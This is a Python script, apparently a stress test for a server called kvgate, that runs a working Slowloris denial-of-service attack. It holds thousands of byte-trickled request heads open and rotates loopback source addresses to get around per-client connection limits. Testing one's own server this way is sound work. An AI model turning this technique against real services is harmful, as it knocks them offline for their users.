#!/usr/bin/python3
"""Slowloris: hold many connections open by trickling a request head a byte at a time.

Each connection sends "POST /v1/chat/completions HTTP/1.1\\r\\nHost: x\\r\\nX-a: b..." one byte
every --interval seconds and never finishes the head. When the server closes one (kvgate answers
408 once limits.read_timeout_ms passed since the first byte), it is opened again at once. The
connections are spread over --sources loopback addresses (127.0.0.2, 127.0.0.3, ...) so that a
per-client connection limit does not refuse them all: this measures what the held connections
cost the server, not the per-client limit.

Prints one status line every --report seconds: connections held now, opened, closed by the
server, refused. Runs for --duration seconds (0: until killed).
"""
import argparse
import asyncio
import sys
import time

HEAD = b"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"


class Stats:
    def __init__(self):
        self.held = 0
        self.opened = 0
        self.closed = 0
        self.refused = 0


async def one(host, port, source, interval, stats, stop):
    while not stop.is_set():
        try:
            reader, writer = await asyncio.open_connection(host, port, local_addr=(source, 0))
        except OSError:
            stats.refused += 1
            await asyncio.sleep(1)
            continue
        stats.opened += 1
        stats.held += 1
        try:
            i = 0
            while not stop.is_set():
                # One byte of the head, then the filler header forever.
                byte = HEAD[i:i + 1] if i < len(HEAD) else b"a"
                writer.write(byte)
                await writer.drain()
                i += 1
                try:
                    # A server that answers (408) or closes ends this connection.
                    await asyncio.wait_for(reader.read(4096), timeout=interval)
                    break
                except asyncio.TimeoutError:
                    pass
        except OSError:
            pass
        finally:
            stats.held -= 1
            stats.closed += 1
            writer.close()


async def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--conns", type=int, default=5000)
    p.add_argument("--sources", type=int, default=10,
                   help="spread over this many loopback source addresses (127.0.0.2 on)")
    p.add_argument("--interval", type=float, default=1.0, help="seconds between bytes")
    p.add_argument("--duration", type=float, default=0)
    p.add_argument("--report", type=float, default=5)
    a = p.parse_args()
    stats = Stats()
    stop = asyncio.Event()
    tasks = []
    for i in range(a.conns):
        source = "127.0.0.%d" % (2 + i % a.sources)
        tasks.append(asyncio.create_task(one(a.host, a.port, source, a.interval, stats, stop)))
        if i % 200 == 199:
            await asyncio.sleep(0.05)  # ramp up rather than a SYN flood
    start = time.monotonic()
    while a.duration <= 0 or time.monotonic() - start < a.duration:
        await asyncio.sleep(a.report)
        print("held %d opened %d closed %d refused %d" %
              (stats.held, stats.opened, stats.closed, stats.refused), flush=True)
    stop.set()
    for t in tasks:
        t.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)


if __name__ == "__main__":
    try:
        asyncio.run(main())
    except KeyboardInterrupt:
        sys.exit(0)
